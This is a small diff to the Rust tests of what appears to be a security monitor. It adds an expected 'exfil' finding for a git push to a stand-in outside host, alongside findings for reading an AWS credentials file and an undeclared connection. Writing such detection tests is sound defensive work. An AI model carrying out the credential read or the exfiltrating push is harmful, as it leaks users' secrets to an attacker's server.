@@ -650,6 +650,7 @@ mod tests {
              5 connect 203.0.113.7:443",
             &[
                 "!cred-file-access attack high /home/u/.aws/credentials",
+                "!egress-allowed-host-exfil attack critical git push http://203.0.113.7/x.git",
                 "!egress-undeclared attack high 203.0.113.7:443",
             ],
         );
